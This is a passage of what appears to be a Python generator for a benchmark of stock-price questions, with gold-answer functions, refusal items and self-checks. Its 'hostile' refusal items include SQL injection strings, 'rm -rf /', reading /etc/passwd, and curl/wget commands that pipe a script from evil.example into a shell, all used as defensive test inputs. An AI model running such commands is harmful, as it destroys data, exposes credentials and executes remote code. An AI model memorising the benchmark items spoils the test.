    q("biggest-move-day", "what was AAPL's worst day in 2016? date + return", lambda: biggest_move("AAPL", "2016-01-01", "2016-12-31", "down"))
    q("biggest-move-day", "biggest one-day jump for AMD in 2016, and when", lambda: biggest_move("AMD", "2016-01-01", "2016-12-31", "up"))
    q("biggest-move-day", "Tesla's largest single-session drop in the first half of 2015?",
      lambda: biggest_move("TSLA", "2015-01-01", "2015-06-30", "down"))
    q("biggest-move-day", "nvidia biggest gap down in 2017?", lambda: biggest_move("NVDA", "2017-01-01", "2017-12-31", "down", "gap"))
    q("biggest-move-day", "which day in Q4 2014 did Google gain the most?",
      lambda: biggest_move("GOOGL", "2014-10-01", "2014-12-31", "up"))
    q("biggest-move-day", "DBB's biggest down day this year", lambda: biggest_move("DBB", "2025-01-01", TODAY, "down"))
    q("biggest-move-day", "when did FXY have its best day in 2024?", lambda: biggest_move("FXY", "2024-01-01", "2024-12-31", "up"))
    q("biggest-move-day", "INDA's largest one-day gain from March through June 2025",
      lambda: biggest_move("INDA", "2025-03-01", "2025-06-30", "up"))

    # ---- cross-sectional-ranking (9) -----------------------------------------------------------------------
    q("cross-sectional-ranking", "Flash-crash Monday, 8/24/2015: which 3 names traded the most shares?", lambda: rank_day("2015-08-24", "volume", 3))
    q("cross-sectional-ranking", "which stock fell hardest on 6/24/2016, the day after the Brexit vote?",
      lambda: rank_day("2016-06-24", "return", 1, desc=False, singular=True))
    q("cross-sectional-ranking", "rank the top 5 performers on Aug 26th, 2015", lambda: rank_day("2015-08-26", "return", 5))
    q("cross-sectional-ranking", "3 biggest gap-ups on 2016-11-10?", lambda: rank_day("2016-11-10", "gap", 3))
    q("cross-sectional-ranking", "which 4 tickers had the widest trading range in dollars on January 4th, 2016",
      lambda: rank_day("2016-01-04", "range", 4))
    q("cross-sectional-ranking", "worst 3 performers on 2 Oct 2017", lambda: rank_day("2017-10-02", "return", 3, desc=False))
    q("cross-sectional-ranking", "which of the three ETFs had the biggest return on April 9?",
      lambda: rank_day("2025-04-09", "return", 1, syms=ETFS, singular=True))
    q("cross-sectional-ranking", "rank INDA, FXY and DBB by volume on 2025-06-02",
      lambda: rank_day("2025-06-02", "volume", 3, syms=ETFS))
    q("cross-sectional-ranking", "of the 3 ETFs, which gapped down the most on 2025-04-07?",
      lambda: rank_day("2025-04-07", "gap", 1, desc=False, syms=ETFS, singular=True))

    # ---- gainers-losers (8) --------------------------------------------------------------------------------
    q("gainers-losers", "Writing up H1 2017: who were the top 3 gainers from the 12/30/2016 close to the 6/30/2017 close?",
      lambda: gainers("2016-12-30", "2017-06-30", 3))
    q("gainers-losers", "biggest losers between the 12/31/2015 close and the 6/30/2016 close - bottom 3 please",
      lambda: gainers("2015-12-31", "2016-06-30", 3, desc=False))
    q("gainers-losers", "Which stock gained the most in 2013, going from the 2012-12-31 close to the 2013-12-31 close?",
      lambda: gainers("2012-12-31", "2013-12-31", 1, singular=True))
    q("gainers-losers", "worst performer from the Jun 30 2015 close to the Sep 30 2015 close?",
      lambda: gainers("2015-06-30", "2015-09-30", 1, desc=False, singular=True))
    q("gainers-losers", "top five gainers in Q3'16, measured close 6/30/16 to close 9/30/16",
      lambda: gainers("2016-06-30", "2016-09-30", 5))
    q("gainers-losers", "rank the bottom 4 from the 2014-12-31 close to the 2015-12-31 close",
      lambda: gainers("2014-12-31", "2015-12-31", 4, desc=False))
    q("gainers-losers", "which ETF did best from the 2025-03-31 close to the 2025-06-23 close?",
      lambda: gainers("2025-03-31", "2025-06-23", 1, syms=ETFS, singular=True))
    q("gainers-losers", "rank the three ETFs by return, 2023-07-31 close to 2023-09-29 close",
      lambda: gainers("2023-07-31", "2023-09-29", 3, syms=ETFS))

    # ---- named-comparison (8) ------------------------------------------------------------------------------
    q("named-comparison", "Did Apple or Microsoft do better from the 2015-12-31 close to the 2016-12-30 close?",
      lambda: compare(["AAPL", "MSFT"], "2015-12-31", "2016-12-30", "change", "which"))
    q("named-comparison", "compare AMZN vs GOOGL return, 6/30/17 close to 11/10/17 close",
      lambda: compare(["AMZN", "GOOGL"], "2017-06-30", "2017-11-10", "change", "compare"))
    q("named-comparison", "who traded more shares on average in Q1 2016, Intel or AMD?",
      lambda: compare(["INTC", "AMD"], "2016-01-01", "2016-03-31", "avg_volume", "which"))
    q("named-comparison", "Coca-Cola vs JPMorgan daily return on 2016-11-09",
      lambda: compare(["KO", "JPM"], None, None, "return", "compare", day="2016-11-09"))
    q("named-comparison", "which was more volatile in 2015, NFLX or TSLA?",
      lambda: compare(["NFLX", "TSLA"], "2015-01-01", "2015-12-31", "vol", "which"))
    q("named-comparison", "which has done better since the May 30 close, FXY or DBB?",
      lambda: compare(["FXY", "DBB"], "2025-05-30", TODAY, "change", "which"))
    q("named-comparison", "INDA vs DBB % change, 2025-04-08 close -> 2025-05-08 close",
      lambda: compare(["INDA", "DBB"], "2025-04-08", "2025-05-08", "change", "compare"))
    q("named-comparison", "was FXY or DBB the more volatile one in Q2 2024?",
      lambda: compare(["FXY", "DBB"], "2024-04-01", "2024-06-30", "vol", "which"))

    # ---- grouped-by-period (8) -----------------------------------------------------------------------------
    q("grouped-by-period", "KO month-end closes for 2016", lambda: grouped("KO", "2016-01-01", "2016-12-31", "month", "last_close"))
    q("grouped-by-period", "Apple's highest price each year, 2012 through 2016",
      lambda: grouped("AAPL", "2012-01-01", "2016-12-31", "year", "max_high"))
    q("grouped-by-period", "total MSFT volume per quarter in 2015",
      lambda: grouped("MSFT", "2015-01-01", "2015-12-31", "quarter", "total_volume"))
    q("grouped-by-period", "avg close of TSLA by month, H1 2016",
      lambda: grouped("TSLA", "2016-01-01", "2016-06-30", "month", "avg_close"))
    q("grouped-by-period", "nvidia's quarter-end closes in 2016",
      lambda: grouped("NVDA", "2016-01-01", "2016-12-31", "quarter", "last_close"))
    q("grouped-by-period", "what was FXY's high in each month of the first half of this year?",
      lambda: grouped("FXY", "2025-01-01", "2025-06-30", "month", "max_high"))
    q("grouped-by-period", "DBB total volume by month for Q2 2025",
      lambda: grouped("DBB", "2025-04-01", "2025-06-30", "month", "total_volume"))
    q("grouped-by-period", "weekly closes for INDA, weeks of May 5 through May 26, 2025",
      lambda: grouped("INDA", "2025-05-05", "2025-05-30", "week", "last_close"))

    # ---- period-over-period (8) ----------------------------------------------------------------------------
    q("period-over-period", "was Netflix trading less in Q2 2016 than Q1? avg daily volume both quarters + the % change",
      lambda: pop("NFLX", ("2016-04-01", "2016-06-30"), ("2016-01-01", "2016-03-31"), "avg_volume"))
    q("period-over-period", "yoy: AAPL average close in 2016 vs 2015",
      lambda: pop("AAPL", ("2016-01-01", "2016-12-31"), ("2015-01-01", "2015-12-31"), "avg_close"))
    q("period-over-period", "how did FB's average daily volume in H2 2016 compare to H1?",
      lambda: pop("FB", ("2016-07-01", "2016-12-31"), ("2016-01-01", "2016-06-30"), "avg_volume"))
    q("period-over-period", "amazon avg closing price, Oct 2017 vs Sept 2017",
      lambda: pop("AMZN", ("2017-10-01", "2017-10-31"), ("2017-09-01", "2017-09-30"), "avg_close"))
    q("period-over-period", "intel avg daily vol: Jan 2016 compared with Dec 2015",
      lambda: pop("INTC", ("2016-01-01", "2016-01-31"), ("2015-12-01", "2015-12-31"), "avg_volume"))
    q("period-over-period", "FXY average volume last month vs the month before",
      lambda: pop("FXY", ("2025-06-01", "2025-06-30"), ("2025-05-01", "2025-05-31"), "avg_volume"))
    q("period-over-period", "DBB avg close Q2 2025 vs Q1 2025",
      lambda: pop("DBB", ("2025-04-01", "2025-06-30"), ("2025-01-01", "2025-03-31"), "avg_close"))
    q("period-over-period", "INDA: average daily volume in April 2025 versus March 2025",
      lambda: pop("INDA", ("2025-04-01", "2025-04-30"), ("2025-03-01", "2025-03-31"), "avg_volume"))

    # ---- moving-average (10: 5 values, 5 crossovers) -------------------------------------------------------
    q("moving-average", "What was Apple's 50-day moving average at the end of June 2016 (6/30)?", lambda: ma_value("AAPL", "2016-06-30", 50))
    q("moving-average", "what was the 200 dma for MSFT on Dec 30 2016?", lambda: ma_value("MSFT", "2016-12-30", 200))
    q("moving-average", "20-day MA of TSLA's close on 9/1/2015", lambda: ma_value("TSLA", "2015-09-01", 20))
    q("moving-average", "FXY 50d MA as of today", lambda: ma_value("FXY", TODAY, 50))
    q("moving-average", "DBB 10-day moving avg on 2025-06-13", lambda: ma_value("DBB", "2025-06-13", 10))
    q("moving-average", "When was Apple's first golden cross after 2016-01-04?",
      lambda: crossover("AAPL", 50, 200, "above", "2016-01-04", "after"))
    q("moving-average", "last death cross in AMZN before 2016-06-01",
      lambda: crossover("AMZN", 50, 200, "below", "2016-06-01", "before"))
    q("moving-average", "When did IBM's close first cross above its 50-day MA after 2016-02-01?",
      lambda: crossover("IBM", "close", 50, "above", "2016-02-01", "after"))
    q("moving-average", "when did FXY's 50-day cross above its 200-day after 2024-06-03?",
      lambda: crossover("FXY", 50, 200, "above", "2024-06-03", "after"))
    q("moving-average", "first time DBB closed below its 20-day average after 2025-06-02",
      lambda: crossover("DBB", "close", 20, "below", "2025-06-02", "after"))

    # ---- threshold-count (8) -------------------------------------------------------------------------------
    q("threshold-count", "In 2016, on how many days did Apple finish above $110?",
      lambda: count_days("AAPL", "2016-01-01", "2016-12-31", "close", ">", 110))
    q("threshold-count", "how many times in 2015 did TSLA drop more than 5% in a day?",
      lambda: count_days("TSLA", "2015-01-01", "2015-12-31", "return", "<", -0.05))
    q("threshold-count", "how many days in 2016 did NVDA move more than 3% either way?",
      lambda: count_days("NVDA", "2016-01-01", "2016-12-31", "return", "abs>", 0.03))
    q("threshold-count", "count the days AMZN traded more than 10M shares in 2015",
      lambda: count_days("AMZN", "2015-01-01", "2015-12-31", "volume", ">", 10e6))
    q("threshold-count", "how many up days did KO have in Q2 2017",
      lambda: count_days("KO", "2017-04-01", "2017-06-30", "return", ">", 0))
    q("threshold-count", "How many days this year has DBB closed above 19?",
      lambda: count_days("DBB", "2025-01-01", TODAY, "close", ">", 19))
    q("threshold-count", "number of down days for FXY last month",
      lambda: count_days("FXY", "2025-06-01", "2025-06-30", "return", "<", 0))
    q("threshold-count", "how many sessions in April 2025 did INDA move more than 1% either way?",
      lambda: count_days("INDA", "2025-04-01", "2025-04-30", "return", "abs>", 0.01))

    # ---- cross-stock-count (8) -----------------------------------------------------------------------------
    q("cross-stock-count", "Nov 9 2016 - how many of the stocks closed higher?",
      lambda: cross_count("2016-11-09", "return", ">", 0))
    q("cross-stock-count", "on 8/24/2015 how many tickers fell more than 3%?",
      lambda: cross_count("2015-08-24", "return", "<", -0.03))
    q("cross-stock-count", "how many names had volume over 50 million shares on 2017-06-09?",
      lambda: cross_count("2017-06-09", "volume", ">", 50e6))
    q("cross-stock-count", "on Oct 15 2014, how many of the stocks finished down?",
      lambda: cross_count("2014-10-15", "return", "<", 0))
    q("cross-stock-count", "how many of your stocks closed above $100 on Jan 4 2016?",
      lambda: cross_count("2016-01-04", "close", ">", 100))
    q("cross-stock-count", "count of stocks up more than 1% on 2017-01-03",
      lambda: cross_count("2017-01-03", "return", ">", 0.01))
    q("cross-stock-count", "how many opened above the prior close on 2017-10-27?",
      lambda: cross_count("2017-10-27", "gap", ">", 0))
    q("cross-stock-count", "how many of the three ETFs were up on 2025-04-09?",
      lambda: cross_count("2025-04-09", "return", ">", 0, syms=ETFS))

    # ---- volatility (8) ------------------------------------------------------------------------------------
    q("volatility", "volatility of Apple's daily returns in Q2 2016", lambda: volatility("AAPL", "2016-04-01", "2016-06-30"))
    q("volatility", "for my finance class: how volatile was AMD in 2016, as the std dev of its daily returns?",
      lambda: volatility("AMD", "2016-01-01", "2016-12-31"))
    q("volatility", "msft daily return stdev, 1st half 2015", lambda: volatility("MSFT", "2015-01-01", "2015-06-30"))
    q("volatility", "tesla vol Q3'16 (not annualized)", lambda: volatility("TSLA", "2016-07-01", "2016-09-30"))
    q("volatility", "standard deviation of IBM's daily % changes over 2016", lambda: volatility("IBM", "2016-01-01", "2016-12-31"))
    q("volatility", "DBB daily volatility last quarter", lambda: volatility("DBB", "2025-04-01", "2025-06-30"))
    q("volatility", "how choppy was FXY in 2024? give me the sd of daily returns",
      lambda: volatility("FXY", "2024-01-01", "2024-12-31"))
    q("volatility", "INDA return volatility Jul-Sep 2023", lambda: volatility("INDA", "2023-07-01", "2023-09-30"))

    # ---- correlation (8) -----------------------------------------------------------------------------------
    q("correlation", "correlation between google and microsoft daily returns in 2016",
      lambda: correlation("GOOGL", "MSFT", "2016-01-01", "2016-12-31"))
    q("correlation", "how correlated were Amazon and Facebook in H2 2015?",
      lambda: correlation("AMZN", "FB", "2015-07-01", "2015-12-31"))
    q("correlation", "quant q: AAPL/KO daily return correlation for calendar 2015", lambda: correlation("AAPL", "KO", "2015-01-01", "2015-12-31"))
    q("correlation", "pearson corr of intel vs nvidia daily returns, first half of 2015",
      lambda: correlation("INTC", "NVDA", "2015-01-01", "2015-06-30"))
    q("correlation", "did JPM and NVDA move together in Q1 2015? correlation of daily returns",
      lambda: correlation("JPM", "NVDA", "2015-01-01", "2015-03-31"))
    q("correlation", "FXY vs DBB correlation in April", lambda: correlation("FXY", "DBB", "2025-04-01", "2025-04-30"))
    q("correlation", "corr(FXY, DBB) daily returns, Q2 2024", lambda: correlation("FXY", "DBB", "2024-04-01", "2024-06-30"))
    q("correlation", "how tightly did INDA track DBB in Q3 2023? correlation please",
      lambda: correlation("INDA", "DBB", "2023-07-01", "2023-09-30"))

    # ---- streak (8) ----------------------------------------------------------------------------------------
    q("streak", "longest winning streak for AAPL in 2017", lambda: streak("AAPL", "2017-01-01", "2017-12-31", True))
    q("streak", "Most consecutive down days for MSFT in 2015?", lambda: streak("MSFT", "2015-01-01", "2015-12-31", False))
    q("streak", "longest run of up closes for NFLX in H2 2016", lambda: streak("NFLX", "2016-07-01", "2016-12-31", True))
    q("streak", "KO's longest losing streak in 2015", lambda: streak("KO", "2015-01-01", "2015-12-31", False))
    q("streak", "JPM longest string of gains in the first half of 2017", lambda: streak("JPM", "2017-01-01", "2017-06-30", True))
    q("streak", "facebook: most up days in a row during 2015", lambda: streak("FB", "2015-01-01", "2015-12-31", True))
    q("streak", "DBB longest run of up days this year", lambda: streak("DBB", "2025-01-01", TODAY, True))
    q("streak", "FXY longest losing streak in 2024", lambda: streak("FXY", "2024-01-01", "2024-12-31", False))

    # ---- vwap-minute (10: 4 day VWAP, 3 window VWAP, 3 bar lists) ------------------------------------------
    q("vwap-minute", "FXY vwap on 2025-06-02", lambda: vwap_day("FXY", "2025-06-02"))
    q("vwap-minute", "what was DBB's volume-weighted average price on April 9th?", lambda: vwap_day("DBB", "2025-04-09"))
    q("vwap-minute", "INDA VWAP for May 12 2025", lambda: vwap_day("INDA", "2025-05-12"))
    q("vwap-minute", "today's VWAP for FXY?", lambda: vwap_day("FXY", TODAY))
    q("vwap-minute", "FXY vwap from 9:30 through 10:00 yesterday", lambda: vwap_window("FXY", "2025-07-07", "09:30", "10:00", "incl"))
    q("vwap-minute", "DBB VWAP over the first 30 minutes of trading on 2025-04-09",
      lambda: vwap_window("DBB", "2025-04-09", "09:30", "09:59", "incl"))
    q("vwap-minute", "INDA vwap between 10am and noon on 6/10/2025",
      lambda: vwap_window("INDA", "2025-06-10", "10:00", "12:00", "both"))
    q("vwap-minute", "FXY 1-min bars 9:30 through 9:35 this morning",
      lambda: minute_bars("FXY", TODAY, "09:30", "09:35", ["open", "high", "low", "close", "volume"]))
    q("vwap-minute", "DBB minute closes from 10:00 through 10:10 on April 7",
      lambda: minute_bars("DBB", "2025-04-07", "10:00", "10:10", ["close"]))
    q("vwap-minute", "INDA minute bars (open, close, volume) on 2025-06-24 from 9:30 through 9:40",
      lambda: minute_bars("INDA", "2025-06-24", "09:30", "09:40", ["open", "close", "volume"]))

    # ---- period-candle (8) ---------------------------------------------------------------------------------
    q("period-candle", "weekly candle for AAPL, week of 2016-01-11", lambda: candle("AAPL", "2016-01-11", "2016-01-15"))
    q("period-candle", "monthly OHLCV for Netflix in Oct 2016", lambda: candle("NFLX", "2016-10-01", "2016-10-31"))
    q("period-candle", "Q3 2017 candle for AMD", lambda: candle("AMD", "2017-07-01", "2017-09-30"))
    q("period-candle", "GOOGL yearly bar for 2015: open, high, low, close, volume", lambda: candle("GOOGL", "2015-01-01", "2015-12-31"))
    q("period-candle", "TSLA OHLC + vol for the week of Feb 8 2016", lambda: candle("TSLA", "2016-02-08", "2016-02-12"))
    q("period-candle", "FXY candle for last month", lambda: candle("FXY", "2025-06-01", "2025-06-30"))
    q("period-candle", "DBB weekly bar for the week of Apr 7 2025", lambda: candle("DBB", "2025-04-07", "2025-04-11"))
    q("period-candle", "INDA open/high/low/close/volume for May 2025", lambda: candle("INDA", "2025-05-01", "2025-05-31"))

    # ---- distance-from-high (8) ----------------------------------------------------------------------------
    q("distance-from-high", "As of the close on June 30 2016, how far below its all-time high close was Netflix?", lambda: dist_high("NFLX", "2016-06-30"))
    q("distance-from-high", "FB drawdown from its peak close as of 11/14/2016", lambda: dist_high("FB", "2016-11-14"))
    q("distance-from-high", "how far was AAPL off its highs at the close on May 12th 2016?", lambda: dist_high("AAPL", "2016-05-12"))
    q("distance-from-high", "% below record close: IBM on 2016-02-11", lambda: dist_high("IBM", "2016-02-11"))
    q("distance-from-high", "tesla distance from all time high on 10 Feb 2016", lambda: dist_high("TSLA", "2016-02-10"))
    q("distance-from-high", "how far is FXY off its high right now?", lambda: dist_high("FXY", TODAY))
    q("distance-from-high", "how far below its peak was DBB on 2025-04-08?", lambda: dist_high("DBB", "2025-04-08"))
    q("distance-from-high", "INDA: distance from the top as of 3/3/2025", lambda: dist_high("INDA", "2025-03-03"))

    # ---- coverage (10) -------------------------------------------------------------------------------------
    q("coverage", "which symbols can I ask you about?", lambda: cov_list())
    q("coverage", "When does the Facebook (now Meta) data start?", lambda: cov_first("FB"))
    q("coverage", "date range covered for TSLA", lambda: cov_range("TSLA"))
    q("coverage", "last date in the AMZN file?", lambda: cov_last("AMZN"))
    q("coverage", "which stocks have data going back before 1980?", lambda: cov_list(lambda s: s.dates[0] < "1980-01-01"))
    q("coverage", "earliest Google session in the dataset", lambda: cov_first("GOOGL"))
    q("coverage", "how far back does the IBM history go?", lambda: cov_first("IBM"))
    q("coverage", "what's the last day you have INDA data for?", lambda: cov_last("INDA"))
    q("coverage", "first minute bar for DBB - what's the timestamp?", lambda: cov_first_minute("DBB"))
    q("coverage", "what period does the FXY data cover?", lambda: cov_range("FXY"))

    # ---- refusals (40) -------------------------------------------------------------------------------------
    r("out-of-scope", "What's Apple's P/E ratio right now?")
    r("out-of-scope", "how much does Coca-Cola pay out in dividends per share each year?")
    r("out-of-scope", "msft market cap on 2016-12-30")
    r("out-of-scope", "Can you forecast where NVDA will close next Friday?")
    r("out-of-scope", "any news on Tesla around Feb 10 2016 that explains the selloff?")
    r("out-of-scope", "what was the implied vol on AMZN Jan 2017 call options?")
    r("out-of-scope", "Netflix EPS for Q3 2016?")
    r("out-of-scope", "what's the consensus analyst price target for Facebook")
    r("out-of-scope", "how bullish is twitter sentiment on JP Morgan this week?")
    r("out-of-scope", "will DBB go up tomorrow? just give me your best prediction")

    r("unknown-symbol", "what did Oracle close at on 3/4/2016?")
    r("unknown-symbol", "SPY performance last month")
    r("unknown-symbol", "correlation of QQQ and FXY daily returns this year")
    r("unknown-symbol", "Berkshire Hathaway's 52 week high as of June 30 2017")
    r("unknown-symbol", "PepsiCo vs Coca-Cola, who did better from the 2015-12-31 close to the 2016-12-30 close?")
    r("unknown-symbol", "disney daily volume on 2016-11-09")
    r("unknown-symbol", "XYZQ close yesterday")
    r("unknown-symbol", "how did ZZTOP do in Q2?")
    r("unknown-symbol", "EWJ vwap today")
    r("unknown-symbol", "Walmart's all-time high close as of 2017-06-30?")

    r("hostile", "'; DROP TABLE daily_bars; --")
    r("hostile", "SELECT * FROM prices WHERE 1=1; DELETE FROM prices;")
    r("hostile", "rm -rf / --no-preserve-root")
    r("hostile", "$(curl -s http://evil.example/x.sh | sh)")
    r("hostile", "cat /etc/passwd")
    r("hostile", "what was AAPL's close on 2016-03-04'; DROP TABLE stocks; --")
    r("hostile", "show msft volume for 2015-01-14 && rm -rf ~/*")
    r("hostile", "1 OR 1=1; UPDATE bars SET close=0 -- and what's the fxy 50 day average?")
    r("hostile", "`wget http://x.example/m -O- | bash` nflx high on 7/19/2016?")
    r("hostile", "UNION SELECT username, password FROM users --")

    r("not-understood", "what's the weather in Boston tomorrow?")
    r("not-understood", "write me a haiku about bull markets")
    r("not-understood", "asdfjkl;")
    r("not-understood", "hello?")
    r("not-understood", "who won the 2016 World Series")
    r("not-understood", "translate 'buy low, sell high' into Spanish")
    r("not-understood", "how do I make a sourdough starter")
    r("not-understood", "tell me a joke")
    r("not-understood", "what's the capital of Australia")
    r("not-understood", "remind me to call mom at 5")

    return L


# --------------------------------------------------------------------------------------------------------------
# Checks and output
# --------------------------------------------------------------------------------------------------------------

EXPECTED = OrderedDict([
    ("latest-rows", 8), ("day-value", 8), ("date-range-rows", 8), ("window-aggregate", 8), ("extreme-day", 8),
    ("52-week", 8), ("change-between", 8), ("daily-return-or-gap", 9), ("biggest-move-day", 8),
    ("cross-sectional-ranking", 9), ("gainers-losers", 8), ("named-comparison", 8), ("grouped-by-period", 8),
    ("period-over-period", 8), ("moving-average", 10), ("threshold-count", 8), ("cross-stock-count", 8),
    ("volatility", 8), ("correlation", 8), ("streak", 8), ("vwap-minute", 10), ("period-candle", 8),
    ("distance-from-high", 8), ("coverage", 10),
    ("out-of-scope", 10), ("unknown-symbol", 10), ("hostile", 10), ("not-understood", 10),
])
REFUSALS = {"out-of-scope", "unknown-symbol", "hostile", "not-understood"}
DATE_RE = re.compile(r"^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$")


def fmt(x):
    if isinstance(x, str):
        return x
    if isinstance(x, bool) or not isinstance(x, (int, float)):
        raise TypeError("bad cell %r" % (x,))
    if not math.isfinite(x):
        raise ValueError("non-finite cell")
    x = round(float(x), 8)
    if x == int(x):
        return int(x)
    return x


def check_gold(g):
    errs = []
    if not isinstance(g, dict) or set(g) != {"rows", "match", "exact_rows"}:
        return ["gold keys"]
    if g["match"] not in ("ordered", "set", "first"):
        errs.append("bad match")
    if not isinstance(g["exact_rows"], bool):
        errs.append("bad exact_rows")
    rows = g["rows"]
    if not isinstance(rows, list) or not rows:
        return errs + ["no rows"]
    for row in rows:
        if not isinstance(row, list) or not row:
            errs.append("bad row")
            continue
        for c in row:
            if isinstance(c, str):
                if c in ALL:
                    continue
                if not DATE_RE.match(c):
                    errs.append("bad string cell %r" % c)
                    continue
                try:
                    if len(c) == 10:
                        dt.date.fromisoformat(c)
                    else:
                        dt.datetime.strptime(c, "%Y-%m-%d %H:%M")
                except ValueError:
                    errs.append("bad date %r" % c)
            elif isinstance(c, bool) or not isinstance(c, (int, float)) or not math.isfinite(c):
                errs.append("bad cell %r" % (c,))
    if g["match"] == "first" and len(rows) != 1:
        errs.append("match first with %d rows" % len(rows))
    if len({json.dumps(r) for r in rows}) != len(rows):
        errs.append("duplicate rows")
    return errs


def norm_text(t):
    return re.sub(r"\s+", " ", t.strip().lower())


def main():
    load_all()
    qs = questions()
    problems = []
    out = []
    for n, (kind, text, fn, refusal) in enumerate(qs, 1):
        qid = "c%03d" % n
        if refusal:
            out.append(OrderedDict([("id", qid), ("kind", kind), ("question", text), ("answerable", False),
                                    ("refusal", refusal)]))
            continue
        del PENDING[:]
        try:
            g = fn()
            g = {"rows": [[fmt(c) for c in row] for row in g["rows"]], "match": g["match"],
                 "exact_rows": g["exact_rows"]}
            errs = list(PENDING) + check_gold(g)
        except Exception as e:  # a missing date, an empty window ...
            g, errs = None, list(PENDING) + ["%s: %s" % (type(e).__name__, e)]
        if errs:
            problems.append((qid, kind, text, errs))
        out.append(OrderedDict([("id", qid), ("kind", kind), ("question", text), ("answerable", True), ("gold", g)]))

    # distinct question texts
    seen = {}
    for o in out:
        k = norm_text(o["question"])
        if k in seen:
            problems.append((o["id"], o["kind"], o["question"], ["same text as " + seen[k]]))
        seen[k] = o["id"]
    # counts per kind, ids, answerable/refusal split
    counts = OrderedDict((k, 0) for k in EXPECTED)
    for o in out:
        if o["kind"] not in counts:
            problems.append((o["id"], o["kind"], o["question"], ["unknown kind"]))
            continue
        counts[o["kind"]] += 1
        if (o["kind"] in REFUSALS) == o["answerable"]:
            problems.append((o["id"], o["kind"], o["question"], ["answerable flag does not fit the kind"]))
    for k, n in EXPECTED.items():
        if counts[k] != n:
            problems.append(("-", k, "", ["count %d, expected %d" % (counts[k], n)]))
    if len(out) != 240 or sum(1 for o in out if o["answerable"]) != 200:
        problems.append(("-", "-", "", ["%d questions, %d answerable" % (len(out), sum(o["answerable"] for o in out))]))

    if problems:
        print("self-checks FAILED; nothing written", file=sys.stderr)
        for qid, kind, text, errs in problems:
            print("  %s [%s] %s\n      %s" % (qid, kind, text, "; ".join(errs)), file=sys.stderr)
        sys.exit(1)
    with open(os.path.join(HERE, "questions.jsonl"), "w") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")
    print("wrote %d questions (%d answerable, %d refusals); all self-checks passed" % (
        len(out), sum(o["answerable"] for o in out), sum(not o["answerable"] for o in out)))
    for k, n in counts.items():
        print("  %-24s %d" % (k, n))


if __name__ == "__main__":
    main()
